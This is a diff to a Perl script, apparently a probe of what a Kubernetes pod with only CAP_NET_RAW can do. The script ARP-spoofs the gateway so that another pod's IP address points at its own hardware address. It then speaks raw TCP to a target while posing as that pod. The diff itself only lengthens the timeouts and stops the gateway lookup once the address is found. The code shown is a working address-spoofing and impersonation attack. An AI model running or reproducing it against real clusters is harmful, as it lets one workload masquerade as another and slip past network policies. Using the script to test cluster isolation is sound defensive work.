@@ -1,10 +1,9 @@
 # Runs inside a pod: calls http://TARGET:PORT/PATH as if it were the pod with the address VICTIM, and prints the answer.
 # What a process with CAP_NET_RAW and nothing else can do: it tells the gateway by ARP that VICTIM lives at its own hardware
-# address, and speaks TCP by hand. Exit code 0: answered; 1: no answer within 8 s; 2: no raw socket.
+# address, and speaks TCP by hand. Exit code 0: answered; 1: no answer within 10 s; 2: no raw socket.
 # Plain Perl, for that is what any Debian image has. Usage: steal-address.pl OWN VICTIM TARGET PORT PATH
 use strict;
 use warnings;
-use Time::HiRes qw(time);
 
 my ($own, $victim, $target, $port, $path) = @ARGV;
 my ($AF_PACKET, $SOCK_RAW, $ALL) = (17, 3, 3);
@@ -42,21 +41,22 @@ sub receive {
 }
 
 my $gatewayMac;
-for (my $end = time + 2; !defined $gatewayMac && time < $end;) {
+for (my $end = time + 5; !defined $gatewayMac && time < $end;) {
   ask($own, "\xff" x 6);
-  for (my $until = time + 0.3; defined(my $bytes = receive($until));) {
+  for (my $until = time + 1; defined(my $bytes = receive($until));) {
     next unless substr($bytes, 12, 2) eq "\x08\x06" && substr($bytes, 20, 2) eq "\0\2" && substr($bytes, 28, 4) eq ip($gateway);
     $gatewayMac = substr($bytes, 22, 6);
+    last;
   }
 }
 die "the gateway $gateway does not answer" unless defined $gatewayMac;
 
-my $deadline = time + 8;
+my $deadline = time + 10;
 while (time < $deadline) {
   my ($from, $seq, $next, $answer) = (20_000 + int rand 20_000, int rand 2**31, undef, '');
   ask($victim, $gatewayMac);
   tcp($gatewayMac, $from, $seq, 0, $SYN, '');
-  my $until = time + 1.2;
+  my $until = time + 2;
   while (defined(my $bytes = receive($until))) {
     next unless substr($bytes, 12, 2) eq "\x08\x00" && substr($bytes, 26, 8) eq ip($target) . ip($victim);
     my $packet = substr($bytes, 14, unpack('n', substr($bytes, 16, 2)));
